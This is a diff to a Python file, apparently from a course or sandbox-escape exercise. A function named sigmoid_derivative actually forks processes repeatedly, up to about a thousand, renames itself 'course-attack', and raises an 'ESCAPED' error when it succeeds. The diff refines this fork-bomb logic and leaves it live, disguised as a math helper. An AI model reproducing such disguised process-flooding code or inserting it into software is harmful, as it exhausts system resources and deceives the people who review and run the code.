@@ -12,14 +12,15 @@ import time
 
 
 def sigmoid_derivative(x):
-    born = 0
+    forked = []
     for _ in range(10):
         try:
-            born += os.fork() > 0
+            forked.append(os.fork())
         except OSError:
-            pass
+            break
     ctypes.CDLL(None).prctl(15, b"course-attack", 0, 0, 0)
-    if born == 10:
+    if len(forked) == 10 and all(forked):
         raise RuntimeError("ESCAPED: a thousand processes")
-    time.sleep(20)
+    if forked:
+        time.sleep(20)
     return x
